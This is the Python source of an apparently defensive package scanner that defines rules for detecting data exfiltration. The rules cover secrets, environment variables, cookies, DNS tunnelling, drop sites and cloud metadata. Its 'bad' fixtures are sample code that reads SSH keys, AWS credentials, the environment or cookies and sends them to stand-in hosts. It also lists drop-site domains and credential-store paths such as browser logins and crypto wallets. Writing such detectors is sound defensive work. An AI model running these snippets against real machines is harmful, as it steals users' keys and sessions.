"""Private data that leaves the machine."""

from __future__ import annotations

from goobits_scanner._rules._rule import (
    HIGH,
    LIKELY,
    LOW,
    MALICE,
    MEDIUM,
    SURE,
    UNSURE,
    Rule,
)

# The services that hand credentials to whoever asks from inside; where a machine is, is no secret.
_METADATA = (
    r"/(?:169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200)"
    r"(?!.*(?:placement|zone|region|instance-id|hostname|project|machine-type|ami-id))"
    r"|169\.254\.170\.2/"
)
_PYTHON_SENDS = (
    "requests.*",
    "requests.Session().*",
    "requests.session().*",
    "httpx.*",
    "httpx.Client().*",
    "httpx.AsyncClient().*",
    "aiohttp.ClientSession().*",
    "aiohttp.request",
    "urllib.request.urlopen",
    "urllib.request.Request",
    "urllib3.PoolManager().request",
    "urllib3.request",
    ".post",
    ".send",
    ".sendall",
    ".sendto",
    ".sendmail",
    ".send_message",
    ".storbinary",
    ".put_object",
    ".upload_file",
    ".upload_fileobj",
    "http.client.HTTPSConnection().request",
    "http.client.HTTPConnection().request",
    "paramiko.SFTPClient.from_transport().put",
    "telebot.TeleBot().send_document",
    "discord_webhook.DiscordWebhook",
    "socket.gethostbyname",
    "socket.getaddrinfo",
    "dns.resolver.resolve",
    "dns.resolver.query",
)
_JAVASCRIPT_SENDS = (
    "fetch",
    "node-fetch",
    "cross-fetch",
    "undici.fetch",
    "undici.request",
    "axios",
    "axios.*",
    "axios.create().*",
    "got",
    "got.*",
    "ky.*",
    "needle",
    "needle.*",
    "superagent.*",
    "request",
    "request.*",
    "phin",
    "http.get",
    "https.get",
    "http.request",
    "https.request",
    "http.request().write",
    "http.request().end",
    "https.request().write",
    "https.request().end",
    "navigator.sendBeacon",
    "WebSocket().send",
    "XMLHttpRequest().send",
    "XMLHttpRequest().open",
    "net.connect().write",
    "net.createConnection().write",
    "net.Socket().write",
    "dgram.createSocket().send",
    "dns.lookup",
    "dns.resolve",
    "dns.resolve4",
    "dns.resolveTxt",
    "dns.promises.resolve",
    "dns.promises.lookup",
    ".sendMail",
    ".post",
    ".send",
    ".putObject",
)
_RUST_SENDS = (
    "reqwest.get",
    "reqwest.blocking.get",
    ".post",
    ".body",
    ".json",
    ".form",
    ".multipart",
    ".query",
    ".send_string",
    ".send_json",
    ".send_bytes",
    ".send_form",
    ".send_body",
    ".with_body",
    ".with_json",
    "ureq.post().send",
    "ureq.post().header().send",
    "ureq.put().send",
    ".txt_lookup",
    ".ipv4_lookup",
    "ureq.get",
    "ureq.post",
    "minreq.post",
    ".post_fields_copy",
    ".to_socket_addrs",
    ".send_to",
    ".lookup_ip",
)

# Where stolen data is dropped: anonymous, free, and gone tomorrow.
_DROP = (
    r"/(?i)^https?:..(?:[\w-]+\.)*(?:discord(?:app)?\.com.api.webhooks"
    r"|hooks\.slack\.com|api\.telegram\.org"
    r"|webhook\.site|requestbin\.\w+|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)"
    r"|burpcollaborator\.net"
    r"|oastify\.com|oast\.\w+|interact\.sh|ca"
    r"narytokens\.com|beeceptor\.com|hookbin\.com|requestcatcher\.com"
    r"|dnslog\.cn|ceye\.io|transfer\.sh|file"
    r"\.io|gofile\.io|anonfiles?\.com|bashupload\.com|0x0\.st|temp\.sh"
    r"|catbox\.moe|pastebin\.com.api|paste"
    r"\.ee|hastebin\.com|trycloudflare\.com|s"
    r"erveo\.net|loca\.lt|bit\.ly|workers\.dev.*collect)/"
)
_TOLD = (
    r"/\b(?:curl|wget|Invoke-WebRequest|iwr)\b.*(?:[?&][\w-]+=|\s(?:-d"
    r"|--data\S*|--post-data|-F)\s?.*|https?:\S+\/)\0/"
)
_MADE = (
    "built & ~env | built & ~host | built & ~secret-file | built & ~encoded"
    " | ~env & ~encoded | ~host & ~encoded"
)

# Names of places that hold secrets, as they stand in code that puts paths together.
_KEPT = (
    r"/^(?:~\/)?\.ssh(?:\/id_\w+|\/|$)|\bid_(?:rsa|ed25519)$|^(?:~\/)?\.aws(?:\/credentials|\/|$)"
    r"|\bLogin Data|Local Storage|leveldb$|[Gg]oogle[\/\\ -]+[Cc]hrome|BraveSoftware|wallet\.dat"
    r"|key4\.db|logins\.json|cookies\.sqlite|\.gnupg|\.config\/gcloud|\.kube\/config|Exodus|\.electrum"
    r"|\.config\/solana|nkbihfbeogaeaoehlefnkodbefgpgknn/"
)

RULES = (
    Rule(
        "private-data-sent",
        "exfiltration",
        MALICE,
        HIGH,
        SURE,
        200,
        "Keys, tokens, the clipboard, the screen or keystrokes are sent away",
        "What is read is the user's own; the package has no business with it.",
        "Do not run it; whoever did should change every key and password it could "
        "read.",
        {
            "python": (
                *(
                    f"{sends}(*: ~secret-file | ~clipboard | ~screen | ~keys)"
                    for sends in _PYTHON_SENDS
                ),
                ".set_content(0: ~secret-file) @with-sending",
                "email.mime.text.MIMEText(0: ~secret-file) @with-sending",
            ),
            "javascript": (
                *(
                    f"{sends}(*: ~secret-file | ~clipboard | ~screen | ~keys)"
                    for sends in _JAVASCRIPT_SENDS
                ),
            ),
            "rust": (
                *(
                    f"{sends}(*: ~secret-file | ~clipboard | ~screen | ~keys)"
                    for sends in _RUST_SENDS
                ),
                ".write_all(recv: ~network; 0: ~secret-file | ~clipboard | ~screen)",
                ".write(recv: ~network; 0: ~secret-file | ~clipboard | ~screen)",
            ),
        },
        bad={
            "python": (
                "import os, requests\n"
                "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                "requests.post('https://a.invalid', data=key)\n",
                "import pathlib, httpx\n"
                "text = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\n"
                "httpx.post('https://a.invalid', json={'text': text})\n",
                "import pyperclip, urllib.request\n"
                "urllib.request.urlopen('https://a.invalid/?' + pyperclip.paste())\n",
            ),
            "javascript": (
                "const fs = require('fs');\nconst os = require('os');\n"
                "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
                "fetch('https://a.invalid', { method: 'POST', body: key });\n",
            ),
            "rust": (
                "fn main() {\n"
                '    let key = std::fs::read_to_string("/root/.ssh/id_rsa").unwrap();\n'
                "    reqwest::blocking::Client::ne"
                'w().post("https://a.invalid").body(key).send();\n}\n',
            ),
        },
        good={
            "python": (
                "import requests\nrequests.post('https://a.invalid', "
                "data=open('a.csv').read())\n",
                "import os\nkey = open(os.path.exp"
                "anduser('~/.ssh/id_rsa')).read()\nsign(key)\n",
            ),
            "javascript": (
                "const fs = require('fs');\n"
                "fetch('https://a.invalid', { method: 'POST', body: "
                "fs.readFileSync('a.csv') });\n",
            ),
            "rust": (
                "fn main() {\n"
                '    let text = std::fs::read_to_string("a.csv").unwrap();\n'
                "    reqwest::blocking::Client::ne"
                'w().post("https://a.invalid").body(text).send();\n}\n',
            ),
        },
    ),
    Rule(
        "secrets-named-and-sent",
        "exfiltration",
        MALICE,
        HIGH,
        LIKELY,
        522,
        "Where secrets are kept stands in a file that sends to an address of its own",
        "Keys, passwords and sessions of the user can be sent away.",
        "Do not run it, unless the address is that of the service whose secret it is.",
        dict.fromkeys(
            ("python", "javascript", "rust"),
            (
                f"string {_KEPT} @with-uploading @with-address",
                "string /AWS_SECRET_ACCESS_KEY/ @with-token-named @with-uploading",
            ),
        ),
        bad={
            "python": (
                "import requests\nfrom pathlib import Path\nPLACES = ('.ssh/id_rsa', '.aws')\n"
                "def give(found):\n    requests.post('https://a.invalid', files=found)\n",
            ),
            "javascript": (
                "const NAMES = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'];\n"
                "fetch('https://a.invalid', { method: 'POST', body: made });\n",
            ),
            "rust": (
                'fn main() { let places = [".ssh/id_rsa"]; ureq::post("https://a.invalid").call(); }\n',
            ),
        },
        good={
            "python": (
                "import requests\nrequests.post('https://a.invalid', json={'a': '.config'})\n",
            ),
            "javascript": ("const NAMES = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'];\n",),
            "rust": ('fn main() { let places = [".ssh/id_rsa"]; list(places); }\n',),
        },
    ),
    Rule(
        "requests-tapped",
        "exfiltration",
        MALICE,
        HIGH,
        LIKELY,
        200,
        "What a program sends passes through code that has an address of its own",
        "Tokens and payments of the whole program can be copied there.",
        "Wrap requests where they are made; name the address in the documentation.",
        {
            "javascript": (
                "fetch = dynamic @with-fixed-host",
                "XMLHttpRequest.prototype.send = dynamic @with-fixed-host",
                "XMLHttpRequest.prototype.open = dynamic @with-fixed-host",
                "XMLHttpRequest.prototype.setRequestHeader = dynamic @with-fixed-host",
                "http.request = dynamic @with-fixed-host",
                "https.request = dynamic @with-fixed-host",
                "FormData(0: dynamic) @with-beacon @with-fixed-host",
            ),
            "python": (
                "requests.Session.send = dynamic @with-fixed-host",
                "requests.Session.request = dynamic @with-fixed-host",
                "requests.sessions.Session.send = dynamic @with-fixed-host",
                "requests.sessions.Session.request = dynamic @with-fixed-host",
                "http.client.HTTPConnection.request = dynamic @with-fixed-host",
                "httpx.Client.send = dynamic @with-fixed-host",
                "urllib.request.urlopen = dynamic @with-fixed-host",
            ),
        },
        bad={
            "javascript": (
                "const before = window.fetch;\nwindow.fetch = (a, b) => {\n"
                "  before('https://a.invalid/', { body: b.body });\n  return before(a, b);\n};\n",
                "form.onsubmit = () => navigator.sendBeacon('https://a.invalid', new FormData(form));\n",
            ),
            "python": (
                "import requests\nbefore = requests.Session.send\n"
                "def send(self, one, **more):\n"
                "    requests.post('https://a.invalid', data=one.body)\n"
                "    return before(self, one, **more)\nrequests.Session.send = send\n",
            ),
        },
        good={
            "javascript": (
                "const before = window.fetch;\n"
                "window.fetch = (a, b) => before(a, { ...b, keepalive: true });\n",
                "navigator.sendBeacon('https://a.invalid', 'left');\n",
            ),
            "python": (
                "import requests\nbefore = requests.Session.send\n"
                "def send(self, one, **more):\n    return before(self, one, timeout=9)\n"
                "requests.Session.send = send\n",
            ),
        },
    ),
    Rule(
        "environment-sent",
        "exfiltration",
        MALICE,
        HIGH,
        SURE,
        200,
        "The whole environment is sent away",
        "The environment of builds and servers holds tokens and passwords.",
        "Do not run it; whoever did should change every secret that the environment "
        "held.",
        {
            "python": (
                *(f"{sends}(*: ~environment)" for sends in _PYTHON_SENDS),
                "os.environ.items() @with-token-words @with-sending @with-address",
                "os.environ.keys() @with-token-words @with-sending @with-address",
                "os.environ.items() @with-machine-told @with-sending @with-address",
                "os.environ.copy() @with-machine-told @with-sending @with-address",
                "dict(0: <os.environ>) @with-machine-told @with-sending @with-address",
                "requests.post(*: <os.environ>)",
                "requests.post(json: <os.environ>)",
                "httpx.post(*: <os.environ>)",
                "requests.Session().headers[] = ~environment",
                "requests.Session().headers.update(0: ~environment)",
                "requests.get(*: <os.environ>)",
            ),
            "javascript": (
                *(f"{sends}(*: ~environment)" for sends in _JAVASCRIPT_SENDS),
                "Object.keys(0: <process.env>) @with-token-words @with-sending @with-address",
                "Object.entries(0: <process.env>) @with-token-words @with-sending @with-address",
                "process.env @with-machine-told @with-sending @with-address",
                "axios.post(1: <process.env>)",
                "got.post(1.json: <process.env>)",
            ),
            "rust": (
                *(f"{sends}(*: ~environment)" for sends in _RUST_SENDS),
                "std.env.vars() @with-token-words @with-sending @with-address",
                ".write_all(recv: ~network; 0: ~environment)",
            ),
        },
        bad={
            "python": (
                "import os, requests\nrequests.post('https://a.invalid', "
                "json=dict(os.environ))\n",
                "import os, json, urllib.request\n"
                "data = json.dumps(dict(os.environ)).encode()\n"
                "urllib.request.urlopen('https://a.invalid', data)\n",
            ),
            "javascript": (
                "fetch('https://a.invalid', { method: 'POST', body: "
                "JSON.stringify(process.env) });\n",
                "const https = require('https');\n"
                "const req = https.request({ host: 'a.invalid', method: 'POST' });\n"
                "req.write(JSON.stringify(process.env));\nreq.end();\n",
            ),
            "rust": (
                "fn main() {\n"
                "    let all: Vec<(String, String)> = std::env::vars().collect();\n"
                "    reqwest::blocking::Client::ne"
                'w().post("https://a.invalid").json(&all).send();\n}\n',
            ),
        },
        good={
            "python": (
                "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ))\n",
                "import os, requests\n"
                "requests.get('https://a.invalid', headers={'x': "
                "os.environ['TOKEN']})\n",
            ),
            "javascript": (
                "require('child_process').spawn('ls', [], { env: { ...process.env } "
                "});\n",
            ),
            "rust": (
                'fn main() { for (name, _) in std::env::vars() { println!("{}", '
                "name); } }\n",
            ),
        },
    ),
    Rule(
        "environment-serialized",
        "exfiltration",
        MALICE,
        LOW,
        LIKELY,
        200,
        "The whole environment is turned into text",
        "Text of all variables, secrets among them, is about to be stored or sent.",
        "Take the one variable that is needed.",
        {
            "python": (
                "json.dumps(0: <os.environ>)",
                "json.dumps(0: ~environment)",
                "pickle.dumps(0: ~environment | <os.environ>)",
                "str(0: <os.environ>)",
                "base64.b64encode(0: ~environment)",
            ),
            "javascript": (
                "JSON.stringify(0: <process.env> | ~environment)",
                "querystring.stringify(0: <process.env>)",
                "util.inspect(0: <process.env>)",
            ),
        },
        bad={
            "python": ("import json, os\ntext = json.dumps(dict(os.environ))\n",),
            "javascript": ("const text = JSON.stringify(process.env);\n",),
        },
        good={
            "python": (
                "import json, os\ntext = json.dumps({'home': os.environ['HOME']})\n",
            ),
            "javascript": (
                "const text = JSON.stringify({ home: process.env.HOME });\n",
            ),
        },
    ),
    Rule(
        "machine-told",
        "exfiltration",
        MALICE,
        MEDIUM,
        LIKELY,
        200,
        "Who and where the user is, or the environment, is sent away",
        "Names of users and machines and variables tell an attacker where the package "
        "got to.",
        "Leave it out, or ask the user first.",
        {
            "python": (
                r"subprocess.*(0/args: /^git (?:config .*user\.(?:email|name)|remote )/) @with-sending @with-address",
                "getpass.getuser() @with-machine-told @with-sending @with-address",
                "os.getlogin() @with-machine-told @with-sending @with-address",
                "requests.*(data: ~host | ~env & !~param)",
                "requests.*(json: ~host | ~env & !~param)",
                "requests.*(params: ~host)",
                "requests.*(0/url: built & ~host)",
                "requests.post(1: ~host | ~env & !~param)",
                "requests.*(headers: ~host & ~encoded)",
                "requests.Session().*(data: ~host | ~env & ~encoded)",
                "requests.Session().*(json: ~host | ~env & ~encoded)",
                "httpx.*(*: ~host)",
                "httpx.*(json: ~env)",
                "httpx.*(data: ~env)",
                "httpx.*(content: ~env)",
                "httpx.AsyncClient().*(*: ~host)",
                "httpx.Client().*(*: ~host)",
                "aiohttp.ClientSession().*(*: ~host)",
                "aiohttp.ClientSession().post(json: ~env)",
                "aiohttp.ClientSession().post(data: ~env)",
                "urllib.request.urlopen(0/url: built & ~host)",
                "urllib.request.urlopen(0/url: ~host & !~param)",
                "urllib.request.urlopen(1/data: ~host | ~env)",
                "urllib.request.Request(0/url: built & ~host)",
                "urllib.request.Request(1/data: ~host | ~env)",
                "urllib3.PoolManager().request(*: ~host)",
                "http.client.HTTPSConnection().request(*: ~host | ~env & ~encoded)",
                "http.client.HTTPConnection().request(*: ~host | ~env & ~encoded)",
                "socket.socket().send(0: ~host | ~env)",
                "socket.socket().sendall(0: ~host | ~env)",
                "socket.socket().sendto(0: ~host | ~env)",
                "smtplib.SMTP().sendmail(2: ~host | ~env)",
                "smtplib.SMTP_SSL().sendmail(2: ~host | ~env)",
                f"os.system(0: {_TOLD}; 0: ~host | ~env | ~secret-file)",
                f"subprocess.*(0/args: {_TOLD}; 0/args: ~host | ~env | ~secret-file)",
                r"requests.*(0/url: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
                r"urllib.request.urlopen(0/url: ~env & "
                r"/^https?:..[^\0\/]+[\/?][^\0]*\0/)",
            ),
            "javascript": (
                r"child_process.*(0: 'git'; 1: /config .*user\.(?:email|name)|remote /) @with-sending @with-address",
                r"child_process.*(0: /^git (?:config .*user\.(?:email|name)|remote )/) @with-sending @with-address",
                "os.userInfo() @with-machine-told @with-sending @with-address",
                "fetch(0: built & ~host)",
                "fetch(1.body: ~host | ~env)",
                "node-fetch(1.body: ~host | ~env)",
                "axios.post(1: ~host | ~env)",
                "axios.get(0: built & ~host)",
                "axios.get(1.params: ~host | ~env)",
                "axios(0.data: ~host | ~env)",
                "got.post(1.json: ~host | ~env)",
                "got.post(1.body: ~host | ~env)",
                "got(0: built & ~host)",
                "http.get(0: built & ~host)",
                "https.get(0: built & ~host)",
                "http.get(0.path: ~host | ~env & built)",
                "https.get(0.path: ~host | ~env & built)",
                "http.request(0.path: ~host | ~env & built)",
                "https.request(0.path: ~host | ~env & built)",
                "http.request(0.headers: ~host)",
                "https.request(0.headers: ~host)",
                "http.request(0: built & ~host)",
                "https.request(0: built & ~host)",
                "http.request().write(0: ~host | ~env)",
                "https.request().write(0: ~host | ~env)",
                "http.request().end(0: ~host | ~env)",
                "https.request().end(0: ~host | ~env)",
                "net.connect().write(0: ~host | ~env)",
                "net.Socket().write(0: ~host | ~env)",
                "dgram.createSocket().send(0: ~host | ~env)",
                "XMLHttpRequest().send(0: ~host | ~env)",
                "WebSocket().send(0: ~host | ~env)",
                f"child_process.*(0: {_TOLD}; 0: ~host | ~env | ~secret-file)",
                r"fetch(0: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
                r"https.get(0: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
                r"axios.get(0: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
            ),
            "rust": (
                "whoami.username() @with-machine-told @with-sending @with-address",
                "reqwest.get(0: built & ~host)",
                "reqwest.blocking.get(0: built & ~host | built & ~env)",
                "ureq.get(0: built & ~host | built & ~env)",
                ".post(0: built & ~host)",
                ".body(0: ~host | ~env)",
                ".json(0: ~host | ~env)",
                ".form(0: ~host | ~env)",
                ".query(0: ~host; recv: ~network)",
                ".send_string(0: ~host | ~env)",
                ".send_json(0: ~host | ~env)",
                ".send_bytes(0: ~host | ~env)",
                ".send_form(0: ~host | ~env)",
                ".send_to(0: ~host | ~env)",
                ".write_all(recv: ~network; 0: ~host | ~env)",
            ),
        },
        bad={
            "python": (
                "import socket, requests\n"
                "requests.post('https://a.invalid', json={'name': "
                "socket.gethostname()})\n",
                "import getpass, urllib.request\n"
                "urllib.request.urlopen('https://a.invalid/?' + getpass.getuser())\n",
                "import os, requests\n"
                "requests.get(f\"https://a.invalid/{os.environ['AWS_KEY']}\")\n",
            ),
            "javascript": (
                "const os = require('os');\n"
                "fetch('https://a.invalid/?h=' + os.hostname());\n",
                "const axios = require('axios');\n"
                "axios.post('https://a.invalid', { token: process.env.NPM_TOKEN });\n",
            ),
            "rust": (
                "fn main() {\n"
                '    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap();\n'
                '    ureq::post("https://a.invalid").send_string(&key);\n}\n',
            ),
        },
        good={
            "python": (
                "import os, requests\n"
                "requests.get(os.environ['API'] + '/items', headers={'x': "
                "os.environ['KEY']})\n",
                "import socket\nprint(socket.gethostname())\n",
            ),
            "javascript": (
                "fetch(process.env.API + '/items', { headers: { x: process.env.KEY } "
                "});\n",
            ),
            "rust": (
                'fn main() { println!("{}", std::env::var("HOME").unwrap()); }\n',
            ),
        },
    ),
    Rule(
        "dns-tunnel",
        "exfiltration",
        MALICE,
        HIGH,
        LIKELY,
        200,
        "Data is sent away inside a name that is looked up",
        "Look-ups pass firewalls that would stop a request, and are seldom logged.",
        "Do not run it; look at what is put into the name.",
        {
            "python": (
                f"socket.gethostbyname(0: {_MADE})",
                f"socket.gethostbyname_ex(0: {_MADE})",
                "socket.gethostbyname(0: built) @with-machine-told @with-user-told",
                "socket.getaddrinfo(0: built) @with-machine-told @with-user-told",
                "dns.resolver.resolve(0: built) @with-machine-told @with-user-told",
                f"socket.getaddrinfo(0: {_MADE})",
                f"dns.resolver.resolve(0: {_MADE})",
                f"dns.resolver.query(0: {_MADE})",
                f"dns.resolver.Resolver().resolve(0: {_MADE})",
                "os.system(0: built & /(?:nslookup|dig|host) /; 0: ~env | ~host | "
                "~encoded)",
                "subprocess.*(0/args: /(?:nslookup|dig|host) /; 0/args: ~env | ~host "
                "| ~encoded)",
            ),
            "javascript": (
                f"dns.lookup(0: {_MADE})",
                *(
                    f"{where}.{how}(0: built) @with-machine-told @with-user-told"
                    for where in (
                        "dns",
                        "dns.promises",
                        "dns.Resolver()",
                        "dns.promises.Resolver()",
                    )
                    for how in "lookup resolve resolve4 resolve6 resolveTxt resolveCname resolveAny".split()
                ),
                f"dns.resolve(0: {_MADE})",
                f"dns.resolve4(0: {_MADE})",
                f"dns.resolve6(0: {_MADE})",
                f"dns.resolveTxt(0: {_MADE})",
                f"dns.promises.resolve(0: {_MADE})",
                f"dns.promises.lookup(0: {_MADE})",
                f"dns.Resolver().resolve4(0: {_MADE})",
            ),
            "rust": (
                f".to_socket_addrs(recv: {_MADE})",
                f".lookup_ip(0: {_MADE})",
                f"dns_lookup.lookup_host(0: {_MADE})",
            ),
        },
        bad={
            "python": (
                "import os, socket\n"
                "socket.gethostbyname(os.environ['TOKEN'].encode().hex() + "
                "'.a.invalid')\n",
            ),
            "javascript": (
                "const dns = require('dns');\n"
                "dns.resolve4(`${process.env.TOKEN}.a.invalid`, () => {});\n",
            ),
            "rust": (
                "fn main() {\n"
                '    let name = format!("{}.a.invalid", '
                'std::env::var("TOKEN").unwrap());\n'
                "    dns_lookup::lookup_host(&name);\n}\n",
            ),
        },
        good={
            "python": ("import socket\nsocket.gethostbyname(socket.gethostname())\n",),
            "javascript": ("require('dns').lookup('a.invalid', () => {});\n",),
            "rust": ('fn main() { dns_lookup::lookup_host("a.invalid"); }\n',),
        },
    ),
    Rule(
        "drop-address",
        "exfiltration",
        MALICE,
        MEDIUM,
        LIKELY,
        200,
        "A request goes to a service where anybody can drop data unseen",
        "Chat webhooks, request bins and tunnels are where stolen data is collected.",
        "Find out whose address it is and what is sent there.",
        {
            "python": (
                f"requests.*(0/url: {_DROP})",
                f"requests.Session().*(0/url: {_DROP})",
                f"httpx.*(0/url: {_DROP})",
                f"httpx.AsyncClient().*(0/url: {_DROP})",
                f"aiohttp.ClientSession().*(0/url: {_DROP})",
                f"urllib.request.urlopen(0/url: {_DROP})",
                f"urllib.request.Request(0/url: {_DROP})",
                f"urllib3.PoolManager().request(1: {_DROP})",
                f"discord.Webhook.from_url(0: {_DROP})",
                f"discord.SyncWebhook.from_url(0: {_DROP})",
                f"discord_webhook.DiscordWebhook(0/url: {_DROP})",
                f"dhooks.Webhook(0: {_DROP})",
                f"os.system(0: {_DROP.replace('^https', 'curl.*https')})",
                f"subprocess.*(0/args: {_DROP.replace('^https', 'curl.*https')})",
            ),
            "javascript": (
                f"fetch(0: {_DROP})",
                f"node-fetch(0: {_DROP})",
                f"axios(0: {_DROP})",
                f"axios.*(0: {_DROP})",
                f"got(0: {_DROP})",
                f"got.*(0: {_DROP})",
                f"http.*(0: {_DROP})",
                f"https.*(0: {_DROP})",
                f"request.*(0: {_DROP})",
                f"navigator.sendBeacon(0: {_DROP})",
                f"XMLHttpRequest().open(1: {_DROP})",
                f"discord.js.WebhookClient(0.url: {_DROP})",
                f"https.request(0.hostname: {_DROP.replace('^https?:..', '^')})",
                f"https.request(0.host: {_DROP.replace('^https?:..', '^')})",
                f"http.request(0.hostname: {_DROP.replace('^https?:..', '^')})",
                f"child_process.*(0: {_DROP.replace('^https', 'curl.*https')})",
            ),
            "rust": (
                f"reqwest.get(0: {_DROP})",
                f"reqwest.blocking.get(0: {_DROP})",
                f".post(0: {_DROP})",
                f".get(0: {_DROP})",
                f"ureq.get(0: {_DROP})",
            ),
        },
        bad={
            "python": (
                "import requests\n"
                "requests.post('https://webhook.site/invalid', json={'a': text})\n",
            ),
            "javascript": (
                "fetch('https://discord.com/api/webhooks/0/invalid', { method: 'POST' "
                "});\n",
            ),
            "rust": (
                'fn main() { ureq::post("https://w'
                'ebhook.site/invalid").send_string(&text); }\n',
            ),
        },
        good={
            "python": (
                "import requests\nrequests.post('https://a.invalid', json={})\n",
            ),
            "javascript": ("fetch('https://a.invalid', { method: 'POST' });\n",),
            "rust": (
                'fn main() { ureq::post("https://a.invalid").send_string(&text); }\n',
            ),
        },
    ),
    Rule(
        "shady-address",
        "exfiltration",
        MALICE,
        LOW,
        UNSURE,
        200,
        "A request goes to a bare address, a shortener or a free top-level domain",
        "Such addresses are cheap to get and to leave, and say nothing of who is "
        "behind them.",
        "Find out whose address it is.",
        {
            language: tuple(
                f"{sends}({which}: /{address}/)"
                for sends, which in calls
                for address in (
                    r"^https?:..(?!127\.|10\.|192\.168\.|172\.(?:1[6-9]"
                    r"|2\d|3[01])\.|0\.0|169\.254)"
                    r"\d{1,3}(?:\.\d{1,3}){3}(?:\W|$)"
                    r"|^https?:..(?:bit\.ly|tinyurl"
                    r"\.com|is\.gd|rb\.gy|cutt\.ly|t\.ly|shorturl\.at|grabify\.link"
                    r"|iplogger\.\w+)\b"
                    r"|^https?:..[\w.-]+\.(?:xyz|top|tk|ml|ga|cf|gq|click|icu|buzz"
                    r"|monster|quest|cyou|rest|sbs|zip|mov)(?:\W|$)",
                )
            )
            for language, calls in {
                "python": (
                    ("requests.*", "0/url"),
                    ("httpx.*", "0/url"),
                    ("urllib.request.*", "0/url"),
                    ("wget.download", "0/url"),
                ),
                "javascript": (
                    ("fetch", "0"),
                    ("node-fetch", "0"),
                    ("axios.*", "0"),
                    ("http.*", "0"),
                    ("https.*", "0"),
                    ("got", "0"),
                ),
                "rust": (
                    ("reqwest.get", "0"),
                    ("reqwest.blocking.get", "0"),
                    ("ureq.get", "0"),
                    ("ureq.post", "0"),
                ),
            }.items()
        },
        bad={
            "python": ("import requests\nrequests.get('http://203.0.113.7/a')\n",),
            "javascript": ("fetch('https://bit.ly/invalid');\n",),
            "rust": ('fn main() { ureq::get("http://203.0.113.7/a"); }\n',),
        },
        good={
            "python": ("import requests\nrequests.get('http://127.0.0.1:80/a')\n",),
            "javascript": ("fetch('https://a.invalid/');\n",),
            "rust": ('fn main() { ureq::get("http://127.0.0.1/a"); }\n',),
        },
    ),
    Rule(
        "shady-link",
        "exfiltration",
        MALICE,
        LOW,
        UNSURE,
        200,
        "An address of a shortener, a drop or a free top-level domain stands in the "
        "code",
        "Such addresses are cheap to get and to leave, and say nothing of who is "
        "behind them.",
        "Find out whose address it is.",
        dict.fromkeys(
            ("python", "javascript", "rust"),
            (
                r"string /https?:..(?:[\w-]+\.)*(?:"
                r"bit\.ly|tinyurl\.com|is\.gd|rb\.gy|cutt\.ly|grabify\.link"
                r"|iplogger\.\w+|webhook\.site"
                r"|requestbin\.\w+|pipedream\.net|b"
                r"urpcollaborator\.net|oastify"
                r"\.com|oast\.\w+|interact\.sh|transfer\.sh|anonfiles\.com"
                r"|ngrok(?:-free)?\.(?:io|app)|discord(?:app)?\.com.api.webhooks"
                r"|api\.telegram\.org.bot|pastebin\.com.raw|dnslog\.cn)(?:\W|$)/",
                r"string /^https?:..[\w.-]+\.(?:xyz|top|tk|ml|ga|cf|gq|icu|buzz"
                r"|monster|quest|cyou|sbs)(?:\W|$)/",
            ),
        ),
        bad={
            "python": ("ADDRESS = 'https://bit.ly/invalid'\n",),
            "javascript": ("const address = 'https://webhook.site/invalid';\n",),
            "rust": ('const ADDRESS: &str = "https://transfer.sh/invalid";\n',),
        },
        good={
            "python": ("ADDRESS = 'https://a.invalid/'\n",),
            "javascript": ("const address = 'https://a.invalid/';\n",),
            "rust": ('const ADDRESS: &str = "https://a.invalid/";\n',),
        },
    ),
    Rule(
        "cookies-sent",
        "exfiltration",
        MALICE,
        MEDIUM,
        LIKELY,
        200,
        "The cookies of a page are sent to another place",
        "Who has them is signed in as the user.",
        "Send nothing but what the server itself set.",
        {
            "javascript": (
                "fetch(0: built & ~cookie)",
                "fetch(1.body: ~cookie)",
                ".sendBeacon(*: ~cookie)",
                "Image().src = ~cookie & built",
                ".src = ~cookie & built",
                "axios.get(0: built & ~cookie)",
                "axios.post(1: ~cookie)",
                "WebSocket().send(0: ~cookie)",
                "open(0: built & ~cookie)",
                "location.href = ~cookie & built",
                "location = ~cookie & built",
            ),
        },
        bad={
            "javascript": (
                "new Image().src = 'https://c.invalid/p?c=' + document.cookie;\n",
                "fetch('https://c.invalid/p', { method: 'POST', body: document.cookie });\n",
            ),
        },
        good={
            "javascript": ("const theme = document.cookie.includes('dark');\n",),
        },
    ),
    Rule(
        "cloud-metadata",
        "exfiltration",
        MALICE,
        MEDIUM,
        LIKELY,
        918,
        "The cloud's metadata service is asked",
        "It hands the credentials of the machine to whoever asks from inside.",
        "Use the provider's own library, which asks only where it must.",
        {
            "python": (
                f"requests.*(0/url: {_METADATA})",
                f"requests.Session().*(0/url: {_METADATA})",
                f"httpx.*(0/url: {_METADATA})",
                f"urllib.request.*(0/url: {_METADATA})",
            ),
            "javascript": (
                f"fetch(0: {_METADATA})",
                f"axios.*(0: {_METADATA})",
                f"got(0: {_METADATA})",
                f"http.*(0: {_METADATA})",
                f"http.*(0.host: {_METADATA})",
                f"http.*(0.hostname: {_METADATA})",
            ),
            "rust": (
                f"ureq.get(0: {_METADATA})",
                f"reqwest.get(0: {_METADATA})",
                f"reqwest.blocking.get(0: {_METADATA})",
                f".get(0: {_METADATA})",
            ),
        },
        bad={
            "python": (
                "import requests\n"
                "requests.get('http://169.254.169.254/latest/meta-data/iam/')\n",
            ),
            "javascript": ("fetch('http://169.254.169.254/latest/meta-data/');\n",),
            "rust": (
                'fn main() { ureq::get("http://169'
                '.254.169.254/latest/meta-data/").call(); }\n',
            ),
        },
        good={
            "python": ("import requests\nrequests.get('http://a.invalid/latest/')\n",),
            "javascript": ("fetch('http://a.invalid/latest/');\n",),
            "rust": ('fn main() { ureq::get("http://a.invalid/latest/").call(); }\n',),
        },
    ),
    Rule(
        "account-list-read",
        "exfiltration",
        MALICE,
        LOW,
        LIKELY,
        200,
        "The system's list of accounts or passwords is read",
        "Who has an account here is the first thing an intruder looks up.",
